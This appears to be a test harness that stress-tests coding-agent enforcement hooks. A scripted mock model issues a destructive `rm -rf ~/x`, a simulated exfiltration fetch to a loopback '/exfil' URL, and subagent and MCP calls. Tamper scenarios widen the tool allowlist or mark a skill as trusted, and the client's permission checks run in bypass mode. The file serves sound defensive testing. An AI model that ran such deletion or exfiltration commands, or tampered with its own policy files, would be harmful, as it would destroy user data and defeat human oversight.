// One run of a real client against a scripted model on 127.0.0.1. Meant to run inside a fresh network namespace
// (test-hosts/hosts.test.mjs starts it with `unshare -rn`), so the only reachable address is loopback.
//
//   node scenario.mjs <claude|opencode> <client-binary> <enforce: hook|plugin|none> <skillcheck-bin>
//
// A fresh HOME and project. skillcheck is the project's dev dependency (node_modules, not on PATH), and the
// enforcement is installed by running the recipe in docs/hosts.md exactly as written. The third-party skill is
// installed the way users install one: Claude Code from a plugin marketplace (`claude plugin marketplace add`,
// `claude plugin install`), OpenCode by `npx skills`' project layout (.agents/skills + skills-lock.json).
// The scripted model reads notes.txt and nb.ipynb, then asks for Bash `rm -rf ~/x` (a folder in the run's HOME),
// Write, Edit, NotebookEdit, a subagent, an MCP tool and a WebFetch to the mock (Claude Code; OpenCode: bash and
// read), then ends. Prints one JSON object: what the mock received, the client's transcript (its JSON event
// output), its exit, and what each tool left behind.

import { spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as http from 'node:http';
import * as os from 'node:os';
import * as path from 'node:path';

const [client, clientBin, enforce, skillcheckBin] = process.argv.slice(2);
const repo = path.resolve(path.dirname(skillcheckBin), '..');
const CLIENT_TIMEOUT_MS = Number(process.env.HOSTS_CLIENT_TIMEOUT_MS ?? 120_000);
const MARK = `READ-OK-${process.pid}`;

const root = fs.mkdtempSync(path.join(os.tmpdir(), `skillcheck-host-${client}-`));
const home = path.join(root, 'home');
const project = path.join(root, 'project');
const victim = path.join(home, 'x');
fs.mkdirSync(victim, { recursive: true });
fs.writeFileSync(path.join(victim, 'precious.txt'), 'do not delete\n');
fs.mkdirSync(project, { recursive: true });
fs.writeFileSync(path.join(project, 'notes.txt'), `${MARK}\n`);
const NOTEBOOK = `${JSON.stringify({ cells: [{ cell_type: 'code', id: 'c1', metadata: {}, source: ['print(1)'], outputs: [], execution_count: null }], metadata: {}, nbformat: 4, nbformat_minor: 5 })}\n`;
fs.writeFileSync(path.join(project, 'nb.ipynb'), NOTEBOOK);
const SKILL_MD = '---\nname: weather\ndescription: Weather for a city. Use when asked about the weather.\n---\nRead the forecast file.\n';
const mcpMark = path.join(home, 'mcp-ran');

// ---- an MCP server (stdio, newline-delimited JSON-RPC) whose tool `touch` creates the file named in argv[2] ----
const MCP_PROBE = `import * as fs from 'node:fs';
import * as readline from 'node:readline';
const mark = process.argv[2];
const send = (m) => process.stdout.write(JSON.stringify(m) + '\\n');
readline.createInterface({ input: process.stdin }).on('line', (line) => {
  let m;
  try { m = JSON.parse(line); } catch { return; }
  if (m.id === undefined) return;
  if (m.method === 'initialize') return send({ jsonrpc: '2.0', id: m.id, result: { protocolVersion: m.params?.protocolVersion ?? '2025-06-18', capabilities: { tools: {} }, serverInfo: { name: 'probe', version: '1.0.0' } } });
  if (m.method === 'tools/list') return send({ jsonrpc: '2.0', id: m.id, result: { tools: [{ name: 'touch', description: 'Touch a file', inputSchema: { type: 'object', properties: {} } }] } });
  if (m.method === 'tools/call') { fs.writeFileSync(mark, 'ran'); return send({ jsonrpc: '2.0', id: m.id, result: { content: [{ type: 'text', text: 'touched' }] } }); }
  if (m.method === 'ping') return send({ jsonrpc: '2.0', id: m.id, result: {} });
  send({ jsonrpc: '2.0', id: m.id, error: { code: -32601, message: 'no such method' } });
});
`;

// ---- the scripted model -------------------------------------------------------------------------------
const requests = [];
const BASH_COMMAND = 'rm -rf ~/x';

/** Which step of the script a request is at: the number of tool results it carries. */
function step(body) {
  let results = 0;
  for (const m of body.messages ?? []) {
    if (m.role === 'tool') results++;
    if (Array.isArray(m.content)) for (const c of m.content) if (c && c.type === 'tool_result') results++;
  }
  return results;
}

function toolResults(body) {
  const out = [];
  for (const m of body.messages ?? []) {
    if (m.role === 'tool') out.push({ id: m.tool_call_id, text: typeof m.content === 'string' ? m.content : JSON.stringify(m.content) });
    if (Array.isArray(m.content)) {
      for (const c of m.content) {
        if (c && c.type === 'tool_result') out.push({ id: c.tool_use_id, isError: !!c.is_error, text: typeof c.content === 'string' ? c.content : JSON.stringify(c.content) });
      }
    }
  }
  return out;
}

function sse(res, events) {
  res.writeHead(200, { 'content-type': 'text/event-stream', 'cache-control': 'no-cache', connection: 'keep-alive' });
  for (const [event, data] of events) res.write(`${event ? `event: ${event}\n` : ''}data: ${typeof data === 'string' ? data : JSON.stringify(data)}\n\n`);
  res.end();
}

/** Claude Code's script: one call per step. Reads first (Edit and NotebookEdit refuse a file not read yet). */
function claudeScript() {
  return [
    { id: 'toolu_read_1', name: 'Read', input: { file_path: path.join(project, 'notes.txt') } },
    { id: 'toolu_read_nb', name: 'Read', input: { file_path: path.join(project, 'nb.ipynb') } },
    { id: 'toolu_bash_1', name: 'Bash', input: { command: BASH_COMMAND, description: 'Delete x' } },
    { id: 'toolu_write_1', name: 'Write', input: { file_path: path.join(project, 'written.txt'), content: 'written\n' } },
    { id: 'toolu_edit_1', name: 'Edit', input: { file_path: path.join(project, 'notes.txt'), old_string: MARK, new_string: 'EDITED' } },
    { id: 'toolu_nb_1', name: 'NotebookEdit', input: { notebook_path: path.join(project, 'nb.ipynb'), cell_id: 'c1', new_source: 'print(2)', edit_mode: 'replace' } },
    { id: 'toolu_agent_1', name: 'Agent', input: { description: 'Delete x', prompt: `Run this shell command: ${BASH_COMMAND}`, subagent_type: 'general-purpose' } },
    { id: 'toolu_mcp_1', name: 'mcp__probe__touch', input: {} },
    { id: 'toolu_fetch_1', name: 'WebFetch', input: { url: `http://127.0.0.1:${server.address().port}/exfil?d=${MARK}`, prompt: 'Summarize the page' } },
  ];
}

function anthropic(req, res, body) {
  const hasTools = Array.isArray(body.tools) && body.tools.some((t) => t.name === 'Bash');
  const n = step(body);
  let block;
  let stop = 'end_turn';
  const script = claudeScript();
  if (hasTools && n < script.length) {
    block = { type: 'tool_use', ...script[n] };
    stop = 'tool_use';
  } else {
    block = { type: 'text', text: 'Done.' };
  }
  const message = { id: `msg_${requests.length}`, type: 'message', role: 'assistant', model: body.model ?? 'mock', content: [], stop_reason: null, stop_sequence: null, usage: { input_tokens: 10, output_tokens: 1 } };
  if (!body.stream) {
    res.writeHead(200, { 'content-type': 'application/json' });
    res.end(JSON.stringify({ ...message, content: [block], stop_reason: stop, usage: { input_tokens: 10, output_tokens: 5 } }));
    return;
  }
  const events = [['message_start', { type: 'message_start', message }]];
  if (block.type === 'tool_use') {
    events.push(['content_block_start', { type: 'content_block_start', index: 0, content_block: { type: 'tool_use', id: block.id, name: block.name, input: {} } }]);
    events.push(['content_block_delta', { type: 'content_block_delta', index: 0, delta: { type: 'input_json_delta', partial_json: JSON.stringify(block.input) } }]);
  } else {
    events.push(['content_block_start', { type: 'content_block_start', index: 0, content_block: { type: 'text', text: '' } }]);
    events.push(['content_block_delta', { type: 'content_block_delta', index: 0, delta: { type: 'text_delta', text: block.text } }]);
  }
  events.push(['content_block_stop', { type: 'content_block_stop', index: 0 }]);
  events.push(['message_delta', { type: 'message_delta', delta: { stop_reason: stop, stop_sequence: null }, usage: { output_tokens: 5 } }]);
  events.push(['message_stop', { type: 'message_stop' }]);
  sse(res, events);
}

function openai(req, res, body) {
  const hasTools = Array.isArray(body.tools) && body.tools.some((t) => t.function?.name === 'bash');
  const n = step(body);
  let delta;
  let finish = 'stop';
  if (hasTools && n === 0) {
    delta = { role: 'assistant', tool_calls: [{ index: 0, id: 'call_bash_1', type: 'function', function: { name: 'bash', arguments: JSON.stringify({ command: BASH_COMMAND, description: 'Delete x' }) } }] };
    finish = 'tool_calls';
  } else if (hasTools && n === 1) {
    delta = { role: 'assistant', tool_calls: [{ index: 0, id: 'call_read_1', type: 'function', function: { name: 'read', arguments: JSON.stringify({ filePath: path.join(project, 'notes.txt') }) } }] };
    finish = 'tool_calls';
  } else if (hasTools && n === 2) {
    delta = { role: 'assistant', tool_calls: [{ index: 0, id: 'call_write_1', type: 'function', function: { name: 'write', arguments: JSON.stringify({ filePath: path.join(project, 'written.txt'), content: 'written\n' }) } }] };
    finish = 'tool_calls';
  } else {
    delta = { role: 'assistant', content: hasTools ? 'Done.' : 'Title' };
  }
  const base = { id: `chatcmpl-${requests.length}`, object: 'chat.completion.chunk', created: 1700000000, model: body.model ?? 'mock' };
  if (!body.stream) {
    res.writeHead(200, { 'content-type': 'application/json' });
    const message = { role: 'assistant', content: delta.content ?? null, ...(delta.tool_calls ? { tool_calls: delta.tool_calls.map(({ index, ...t }) => t) } : {}) };
    res.end(JSON.stringify({ ...base, object: 'chat.completion', choices: [{ index: 0, message, finish_reason: finish }], usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 } }));
    return;
  }
  sse(res, [
    [null, { ...base, choices: [{ index: 0, delta, finish_reason: null }] }],
    [null, { ...base, choices: [{ index: 0, delta: {}, finish_reason: finish }], usage: { prompt_tokens: 10, completion_tokens: 5, total_tokens: 15 } }],
    [null, '[DONE]'],
  ]);
}

const server = http.createServer((req, res) => {
  const chunks = [];
  req.on('data', (c) => chunks.push(c));
  req.on('end', () => {
    let body = {};
    try {
      body = JSON.parse(Buffer.concat(chunks).toString('utf8') || '{}');
    } catch {
      /* not JSON */
    }
    requests.push({ method: req.method, url: req.url, step: step(body), hasTools: Array.isArray(body.tools), tools: (body.tools ?? []).map((t) => t.name ?? t.function?.name), toolResults: toolResults(body) });
    if (req.url.startsWith('/exfil')) {
      res.writeHead(200, { 'content-type': 'text/plain' });
      return res.end('received');
    }
    if (req.method === 'POST' && req.url.startsWith('/v1/messages') && !req.url.includes('count_tokens')) return anthropic(req, res, body);
    if (req.method === 'POST' && req.url.startsWith('/v1/messages/count_tokens')) {
      res.writeHead(200, { 'content-type': 'application/json' });
      return res.end('{"input_tokens":10}');
    }
    if (req.method === 'POST' && req.url.startsWith('/v1/chat/completions')) return openai(req, res, body);
    res.writeHead(404, { 'content-type': 'application/json' });
    res.end('{"error":{"type":"not_found","message":"mock"}}');
  });
});
await new Promise((r) => server.listen(0, '127.0.0.1', r));
const port = server.address().port;

// ---- the host's configuration ------------------------------------------------------------------------
// skillcheck as the project's dev dependency: in node_modules, not on PATH (as `npm install --save-dev` leaves it).
fs.writeFileSync(path.join(project, 'package.json'), `${JSON.stringify({ private: true, devDependencies: { skillcheck: '*' } }, null, 2)}\n`);
fs.mkdirSync(path.join(project, 'node_modules', '.bin'), { recursive: true });
fs.symlinkSync(repo, path.join(project, 'node_modules', 'skillcheck'));
fs.symlinkSync('../skillcheck/bin/skillcheck.js', path.join(project, 'node_modules', '.bin', 'skillcheck'));

/** The shell block of docs/hosts.md marked `<!-- recipe: NAME -->`, run as written (sh -e) in the project. */
function runRecipe(name) {
  const doc = fs.readFileSync(path.join(repo, 'docs', 'hosts.md'), 'utf8');
  const m = new RegExp(`<!-- recipe: ${name} -->\\s*\`\`\`sh\\n([\\s\\S]*?)\`\`\``).exec(doc);
  if (!m) throw new Error(`docs/hosts.md has no recipe ${name}`);
  const r = spawnSync('sh', ['-ec', m[1]], { cwd: project, env, encoding: 'utf8', timeout: 120_000 });
  if (r.status !== 0) throw new Error(`recipe ${name} failed (exit ${r.status ?? r.signal}):\n${r.stderr}`);
  return r;
}

function run(cmd, args) {
  const r = spawnSync(cmd, args, { cwd: project, env, encoding: 'utf8', timeout: 120_000 });
  if (r.status !== 0) throw new Error(`${cmd} ${args.join(' ')} failed (exit ${r.status ?? r.signal}):\n${r.stdout}\n${r.stderr}`);
  return r.stdout;
}

const env = {
  PATH: `${path.dirname(process.execPath)}:/usr/local/bin:/usr/bin:/bin`,
  HOME: home,
  TMPDIR: os.tmpdir(),
  LANG: 'C.UTF-8',
  XDG_CONFIG_HOME: path.join(home, '.config'),
  XDG_DATA_HOME: path.join(home, '.local', 'share'),
  XDG_CACHE_HOME: path.join(home, '.cache'),
  XDG_STATE_HOME: path.join(home, '.local', 'state'),
  // Anything not on loopback goes to a closed port (belt and braces: the namespace has no route anyway).
  HTTPS_PROXY: 'http://127.0.0.1:9',
  HTTP_PROXY: 'http://127.0.0.1:9',
  NO_PROXY: '127.0.0.1,localhost',
  npm_config_update_notifier: 'false',
  npm_config_fund: 'false',
  // npm's registry retries would take minutes offline (`npx --no-install` of a missing package looks it up): fail at once.
  npm_config_offline: 'true',
  npm_config_fetch_retries: '0',
};
let recipe = null;

let cmd;
let args;
if (client === 'claude') {
  Object.assign(env, {
    ANTHROPIC_BASE_URL: `http://127.0.0.1:${port}`,
    ANTHROPIC_API_KEY: 'sk-ant-dummy-key-for-the-loopback-mock',
    CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC: '1',
    DISABLE_AUTOUPDATER: '1',
    DISABLE_TELEMETRY: '1',
    DISABLE_ERROR_REPORTING: '1',
    CLAUDE_CODE_DISABLE_TERMINAL_TITLE: '1',
    // MCP tools offered directly, not behind ToolSearch.
    ENABLE_TOOL_SEARCH: 'false',
  });
  // The user trusts this project (as after the trust dialog), so its settings, allow rules and hooks apply.
  fs.writeFileSync(path.join(home, '.claude.json'), JSON.stringify({ projects: { [project]: { hasTrustDialogAccepted: true } } }));
  // A third-party skill installed from a plugin marketplace, with Claude Code's own commands (offline: a local
  // marketplace folder; the plugin is copied into ~/.claude/plugins/cache/acme/weather/1.0.0/).
  const mkt = path.join(root, 'marketplace');
  fs.mkdirSync(path.join(mkt, '.claude-plugin'), { recursive: true });
  fs.writeFileSync(path.join(mkt, '.claude-plugin', 'marketplace.json'), JSON.stringify({ name: 'acme', owner: { name: 'Acme' }, plugins: [{ name: 'weather', source: './plugins/weather', description: 'Weather' }] }));
  fs.mkdirSync(path.join(mkt, 'plugins', 'weather', '.claude-plugin'), { recursive: true });
  fs.writeFileSync(path.join(mkt, 'plugins', 'weather', '.claude-plugin', 'plugin.json'), JSON.stringify({ name: 'weather', version: '1.0.0', description: 'Weather' }));
  fs.mkdirSync(path.join(mkt, 'plugins', 'weather', 'skills', 'weather'), { recursive: true });
  fs.writeFileSync(path.join(mkt, 'plugins', 'weather', 'skills', 'weather', 'SKILL.md'), SKILL_MD);
  run(clientBin, ['plugin', 'marketplace', 'add', mkt]);
  run(clientBin, ['plugin', 'install', 'weather@acme']);
  // An MCP server whose one tool leaves a mark when it runs.
  const mcpServer = path.join(root, 'mcp-probe.mjs');
  fs.writeFileSync(mcpServer, MCP_PROBE);
  const mcpConfig = path.join(root, 'mcp.json');
  fs.writeFileSync(mcpConfig, JSON.stringify({ mcpServers: { probe: { type: 'stdio', command: process.execPath, args: [mcpServer, mcpMark] } } }));

  // WebFetch's domain preflight (a request to claude.ai) fails offline: skip it, so that without the hook the
  // fetch to the mock goes through (the control shows the exfiltration the hook stops).
  let settings = { skipWebFetchPreflight: true };
  if (enforce === 'hook' || enforce === 'hook-tampered' || enforce === 'hook-unavailable') {
    recipe = runRecipe('claude-code');
    const hooks = JSON.parse(fs.readFileSync(path.join(project, '.claude', 'skillcheck-hooks.json'), 'utf8'));
    settings = { ...settings, ...hooks }; // "merge into .claude/settings.json"
    if (enforce === 'hook-tampered') {
      // Someone (a skill with a write tool, say) widens the allowlist after the hook was installed.
      const file = path.join(project, '.claude', 'skillcheck-policy.json');
      const doc = JSON.parse(fs.readFileSync(file, 'utf8'));
      doc.allowedTools = [...doc.allowedTools, 'Bash'].sort();
      doc.deniedTools = doc.deniedTools.filter((t) => t !== 'Bash');
      fs.writeFileSync(file, JSON.stringify(doc, null, 2));
    }
    // skillcheck uninstalled after the hook was set up: the hook cannot run, and onFailure "block" must refuse.
    if (enforce === 'hook-unavailable') fs.rmSync(path.join(project, 'node_modules'), { recursive: true, force: true });
  }
  fs.mkdirSync(path.join(project, '.claude'), { recursive: true });
  fs.writeFileSync(path.join(project, '.claude', 'settings.json'), JSON.stringify(settings, null, 2));
  cmd = clientBin;
  // Claude Code's own permission checks are bypassed in every scenario, so they decide nothing: without the hook the
  // call must go through (the control), and with it the hook alone must refuse. (Its approval heuristics for `rm`
  // once asked instead of running, which made the control flaky.) IS_SANDBOX: bypass mode is refused as root
  // otherwise; the client runs in its own network namespace with only loopback.
  env.IS_SANDBOX = '1';
  args = ['-p', 'Delete ~/x, then read notes.txt.', '--output-format', 'stream-json', '--verbose', '--model', 'claude-sonnet-4-5', '--max-turns', '16', '--add-dir', home, '--permission-mode', 'bypassPermissions', '--mcp-config', mcpConfig];
} else {
  const config = {
    $schema: 'https://opencode.ai/config.json',
    provider: {
      mock: { npm: '@ai-sdk/openai-compatible', name: 'Mock', options: { baseURL: `http://127.0.0.1:${port}/v1`, apiKey: 'dummy' }, models: { 'mock-model': { name: 'Mock model', tool_call: true } } },
    },
    model: 'mock/mock-model',
    small_model: 'mock/mock-model',
    share: 'disabled',
    autoupdate: false,
    permission: { bash: 'allow', read: 'allow', edit: 'allow', external_directory: 'allow' },
  };
  fs.writeFileSync(path.join(project, 'opencode.json'), JSON.stringify(config, null, 2));
  // A third-party skill installed as `npx skills add` leaves it: .agents/skills/<name> and the project lock.
  fs.mkdirSync(path.join(project, '.agents', 'skills', 'weather'), { recursive: true });
  fs.writeFileSync(path.join(project, '.agents', 'skills', 'weather', 'SKILL.md'), SKILL_MD);
  fs.writeFileSync(path.join(project, 'skills-lock.json'), `${JSON.stringify({ version: 1, skills: { weather: { source: 'acme/skills', sourceType: 'github', computedHash: '0'.repeat(64) } } }, null, 2)}\n`);
  if (enforce === 'plugin' || enforce === 'plugin-tampered') {
    recipe = runRecipe('opencode');
    const file = path.join(project, '.opencode', 'plugin', 'skillcheck-policy.js');
    // Someone promotes the installed skill to trusted in the plugin file after it was written.
    if (enforce === 'plugin-tampered') fs.writeFileSync(file, fs.readFileSync(file, 'utf8').replace('"trust": "installed"', '"trust": "trusted"'));
  }
  Object.assign(env, {
    OPENCODE_DISABLE_MODELS_FETCH: '1',
    OPENCODE_DISABLE_AUTOUPDATE: '1',
    OPENCODE_DISABLE_DEFAULT_PLUGINS: '1',
    OPENCODE_DISABLE_LSP_DOWNLOAD: '1',
    OPENCODE_DISABLE_SHARE: '1',
    OPENCODE_DISABLE_CLAUDE_CODE: '1',
    // With a plugin configured, OpenCode installs @opencode-ai/plugin into its config folders with npm's Arborist,
    // which retries an unreachable registry for minutes before going on: offline, make it fail at once.
    npm_config_offline: 'true',
    npm_config_fetch_retries: '0',
  });
  cmd = clientBin;
  args = [...(process.env.HOSTS_DEBUG ? ['--print-logs', '--log-level', 'DEBUG'] : []), 'run', '--format', 'json', '--model', 'mock/mock-model', 'Delete ~/x, then read notes.txt.'];
}

// ---- run the client, bounded -------------------------------------------------------------------------
const started = Date.now();
const child = spawn(cmd, args, { cwd: project, env, detached: true, stdio: ['ignore', 'pipe', 'pipe'] });
let stdout = '';
let stderr = '';
child.stdout.on('data', (d) => (stdout += d));
child.stderr.on('data', (d) => (stderr += d));
let timedOut = false;
const timer = setTimeout(() => {
  timedOut = true;
  try {
    process.kill(-child.pid, 'SIGKILL');
  } catch {
    /* gone */
  }
}, CLIENT_TIMEOUT_MS);
const exit = await new Promise((r) => child.on('close', (code, signal) => r({ code, signal })));
clearTimeout(timer);
try {
  process.kill(-child.pid, 'SIGKILL'); // anything the client left behind in its group
} catch {
  /* none */
}
server.close();

const transcript = [];
for (const line of stdout.split('\n')) {
  if (!line.trim()) continue;
  try {
    transcript.push(JSON.parse(line));
  } catch {
    transcript.push({ unparsed: line.slice(0, 2000) });
  }
}
const result = {
  client,
  enforce,
  exit,
  timedOut,
  ms: Date.now() - started,
  victimExists: fs.existsSync(path.join(victim, 'precious.txt')),
  written: fs.existsSync(path.join(project, 'written.txt')),
  notesEdited: !fs.readFileSync(path.join(project, 'notes.txt'), 'utf8').includes(MARK),
  notebookEdited: fs.readFileSync(path.join(project, 'nb.ipynb'), 'utf8') !== NOTEBOOK,
  mcpRan: fs.existsSync(mcpMark),
  exfiltrated: requests.some((q) => q.url.startsWith('/exfil')),
  recipe: recipe === null ? null : { stdout: recipe.stdout.slice(-2000), stderr: recipe.stderr.slice(-4000) },
  mark: MARK,
  requests,
  transcript,
  stderr: stderr.slice(-8000),
};
fs.rmSync(root, { recursive: true, force: true });
process.stdout.write(`${JSON.stringify(result)}\n`);
